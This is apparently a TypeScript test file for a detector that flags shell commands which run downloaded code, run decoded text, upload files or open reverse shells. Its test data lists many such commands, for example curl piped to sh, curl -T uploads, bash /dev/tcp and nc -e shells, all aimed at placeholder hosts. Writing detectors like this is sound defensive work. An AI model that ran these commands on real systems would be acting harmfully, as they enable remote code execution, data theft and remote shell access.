import { describe, expect, test } from "vitest";
import { seenIn } from "@/server/testing/seen-in";

describe("what runs a download, sends a file or hands over a shell", () => {
  test.each<[sighting: string, commands: string[]]>([
    [
      "download_and_run: hands a download to sh, unread",
      [
        "curl https://x.org/a | sh",
        "curl https://x.org/a | jq . | sh",
        "openssl s_client x | sh",
        "aws s3 cp s3://x - | sh",
        "gsutil cat x | sh",
        "kubectl exec p -- cat x | sh",
        "scp h:a b | sh",
        "sh $(curl https://x.org)",
        "sh a $(ls $(curl https://x.org))",
        "nc h 1 | sh",
      ],
    ],
    ["download_and_run: hands a download to python3, unread", ["curl https://x.org/a | python3", "curl https://x.org/a | python3 -"]],
    [
      "piped_program: hands what another command prints to sh",
      [
        "ls | sh",
        "base64 a | sh",
        "mybase64 -d a | sh",
        "base64x -d a | sh",
        "xxd a | sh",
        "openssl rand 5 | sh",
        "gzip a | sh",
        "pythonx x.py | sh",
        "xtr a b | sh",
        "aws s3 ls | sh",
        "gsutil ls | sh",
        "kubectl get p | sh",
        "scp a b | sh",
        "cat p | sh -i | nc h 1 > p",
      ],
    ],
    [
      "hidden_program: hands text that was decoded to sh",
      [
        "printf '\\\\154s' | sh",
        "base64 -d a | sh",
        "base64 --decode a | sh",
        "base64 -id a | sh",
        "base32 -D a | sh",
        "xxd -r -p a | sh",
        "xxd -rp a | sh",
        "openssl enc -d -in a | sh",
        "openssl base64 -d | sh",
        "gzip -dc a | sh",
        "gzip -cd a | sh",
        "python3.12 x.py | sh",
        "gzexe a | sh",
      ],
    ],
    ["download_and_run: hands a download to eval, unread", ['eval "$(curl https://x.org)"', 'eval "$(wget -qO- https://x.org)"']],
    ["download_and_run: hands a download to source, unread", ["source <(curl -s https://x.org)"]],
    ["download_and_run: hands a download to ., unread", [". <(curl -s https://x.org)"]],
    [
      "download_and_run: hands a download to bash, unread",
      ['bash -c "$(curl https://x.org)"', "(curl https://x.org/a; ls) | cat | bash -s"],
    ],
    ["hidden_program: hands text that was decoded to eval", ["eval $(base64 -d a)"]],
    ["piped_program: hands what another command prints to eval", ["eval $(ls)"]],
    [
      "download_and_run: runs a file that it has just downloaded",
      [
        "curl -o a https://x.org; sh a",
        "curl -o ./a https://x.org; sh ././a",
        "curl --output a https://x.org; bash a",
        "curl -O https://x.org/a.sh; sh a.sh",
        "curl -O https://x.org/b/a.sh?x=1; sh a.sh",
        "curl https://x.org > a; sh a",
        "wget -O a https://x.org; ./a",
        "wget --output-document=a https://x.org; python3 a",
        "wget https://x.org/a; chmod +x a; ./a",
      ],
    ],
    [
      "made_runnable: makes a file a program and runs it at once",
      [
        "wget https://x.org/a; chmod +x a; ./a",
        "chmod +x a; ./a",
        "chmod 755 a; ./a",
        "chmod u+x ./a; ././a",
        "chmod -v +x a; ./a",
        "chmod -R 755 a; ./a",
      ],
    ],
    [
      "upload: sends a file to another machine",
      [
        "curl -T a https://x.org",
        "curl --upload-file a https://x.org",
        "curl -F a=@b https://x.org",
        "curl --form 'a=<b' https://x.org",
        "curl -d @a https://x.org",
        "curl -d@a https://x.org",
        "curl --data @a https://x.org",
        "curl --data=@a https://x.org",
        "curl --data-binary @a https://x.org",
        "curl --data-binary=@a https://x.org",
        "curl --data-raw=@a https://x.org",
        "curl --data-raw @a https://x.org",
        "curl --data-ascii @a https://x.org",
        "curl --data-urlencode a@b https://x.org",
        "curl --json @a https://x.org",
        "wget --post-file=a https://x.org",
        "wget --body-file a https://x.org",
        "curl -xT a",
        "curl -sT a https://x.org",
        "curl -Fa=@b https://x.org",
        "curl -sFa=@b https://x.org",
      ],
    ],
    [
      "reverse_shell: opens a connection to another machine from the shell itself",
      ["bash -i >& /dev/tcp/h/1 0>&1", "cat < /dev/tcp/h/1", "cat < /dev/udp/h/1", "echo '/dev/tcp/h/1", "exec 5<>/dev/tcp/h/1"],
    ],
    [
      "reverse_shell: hands a program to another machine",
      [
        "nc -e /bin/sh h 1",
        "nc -c sh h 1",
        "ncat --exec sh h 1",
        "ncat --sh-exec ls h 1",
        "netcat -e sh h 1",
        "nc.traditional -e sh h 1",
        "nc.openbsd -e sh h 1",
        "socat TCP:h:1 EXEC:sh",
        "socat TCP:h:1 system:ls",
        "socat TCP:h:1 SHELL:ls",
      ],
    ],
    ["reverse_shell: hands a terminal to another machine", ["xterm -display h:1", "xterm 10.0.0.1:1"]],
    [
      "reverse_shell: opens a connection to another machine from awk",
      [
        "awk 'BEGIN{x=\"/inet/tcp/0/h/1\"}'",
        "gawk 'BEGIN{x=\"/inet/tcp/0/h/1\"}' a",
        "mawk 'BEGIN{x=\"/inet/tcp/0/h/1\"}'",
        "nawk 'BEGIN{x=\"/inet/tcp/0/h/1\"}'",
      ],
    ],
    [
      "reverse_shell: hands a shell to another machine",
      [
        "cat p | sh -i | nc h 1 > p",
        "sh -i < p | ncat h 1",
        "bash < p | netcat h 1",
        "zsh < p | nc.openbsd h 1",
        "pwsh < p | telnet h 1",
        "cmd.exe < p | socat - h",
        "ash < p | openssl s_client h",
      ],
    ],
  ])("%s", (sighting, commands) => {
    for (const command of commands) expect(seenIn(command), command).toContain(sighting);
  });

  test.each([
    "rm -f a -- --help",
    "rm -- -r",
    "truncate -s -5 a",
    "curl https://x.org/a | python3 -m json.tool",
    "ls | python3",
    "echo ls | sh",
    "printf 'ls' | sh",
    "ls $(curl https://x.org)",
    "curl https://x.org/a; sh b",
    "curl https://x.org/a.sh; sh b.sh",
    "wget https://x.org/a; python3 b a",
    "curl -o - https://x.org; sh -",
    "curl -o /dev/null https://x.org; sh /dev/null",
    "ls > a; sh a",
    "curl -O https://x.org/a; a",
    "curl -O https://x.org/a; ls a",
    "chmod 644 a; ./a",
    "chmod a; ./a",
    "chmod +x a; ./b",
    "chmod +x a; a",
    "chown x a; ./a",
    "chmod; ./a",
    "chmod -w a; ./a",
    "curl -F a=b https://x.org",
    "curl -d a https://x.org",
    "curl --data-urlencode =@a https://x.org",
    "curl a=@b",
    "wget --post-data=a https://x.org",
    "cat < a/dev/tcp/h/1",
    "echo /dev/tcp/h/1",
    "nc -l 1",
    "socat TCP:h:1 STDIO",
    "xterm -displayx h",
    "xterm x-display",
    "xterm -e ls",
    "ls | nc h 1",
    "ls; sh a; cat b | nc h 1",
    "cat b | nc h 1; sh a",
    "xsh a | nc h 1",
  ])("is not in %s", (command) => {
    expect(
      seenIn(command).filter((sighting) =>
        /^(?:download_and_run|hidden_program|piped_program|made_runnable|upload|reverse_shell):/.test(sighting),
      ),
    ).toEqual([]);
  });
});

describe("what runs what it downloads, whatever options stand beside", () => {
  test.each<[sighting: string, commands: string[]]>([
    ["download_and_run: hands a download to python3, unread", ["curl https://x.org | python3 -u"]],
    ["download_and_run: hands a download to perl, unread", ["curl https://x.org | perl -w"]],
    ["download_and_run: hands a download to node, unread", ["curl https://x.org | node --no-warnings -"]],
  ])("%s", (sighting, commands) => {
    for (const command of commands) expect(seenIn(command), command).toContain(sighting);
  });

  test.each([
    "curl https://x.org | python3 -c'import json'",
    "curl https://x.org | python3 -mjson.tool",
    "curl https://x.org | ruby a.rb",
    "curl https://x.org | perl -ne print",
    "curl https://x.org | php -l",
    "curl https://x.org | python3 -V",
  ])("is not in %s", (command) => {
    expect(seenIn(command).filter((sighting) => /^(?:download_and_run):/.test(sighting))).toEqual([]);
  });
});
